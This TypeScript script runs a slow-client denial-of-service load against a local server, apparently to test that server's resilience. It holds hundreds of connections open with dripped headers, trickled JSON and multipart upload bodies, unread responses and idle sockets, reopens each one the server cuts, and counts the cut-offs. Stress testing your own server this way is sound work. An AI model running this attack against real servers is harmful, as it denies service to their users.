import { connect } from "node:net";

/** A program that holds up a server in every slow way, until it is killed. Whom the server cuts off comes again. */
const [port, key, link] = process.argv.slice(2);
const EACH = 250;
const IDLE = 1000;

const head = (method: string, path: string, type: string, length: number) =>
  `${method} ${path} HTTP/1.1\r\nhost: a\r\nauthorization: Bearer ${key}\r\ncontent-type: ${type}\r\ncontent-length: ${length}\r\n\r\n`;

const form = "multipart/form-data; boundary=b";
const file =
  '--b\r\nContent-Disposition: form-data; name="image"; filename="a"\r\nContent-Type: image/png\r\n\r\n';

let cut = 0;
function attack(start: string, perSecond: string, reads: boolean): void {
  const socket = connect(Number(port), "127.0.0.1", () => socket.write(start));
  const timer = perSecond === "" ? undefined : setInterval(() => socket.write(perSecond), 1000);
  if (reads) socket.resume();
  socket.on("error", () => {});
  socket.once("close", () => {
    cut++;
    clearInterval(timer);
    setTimeout(attack, 10, start, perSecond, reads);
  });
}

for (let count = 0; count < EACH; count++) {
  attack("GET /v1/jobs HTTP/1.1\r\nx: ", "x", true);
  attack(head("POST", "/v1/uploads", "application/json", 60_000), "x", true);
  attack(head("POST", "/v1/jobs", form, 1_000_000) + file, "x", true);
  attack(`GET ${link} HTTP/1.1\r\nhost: a\r\n\r\n`, "", false);
}
for (let count = 0; count < IDLE; count++) attack("", "", true);
setInterval(() => process.stdout.write(`cut off ${cut}\n`), 1000);
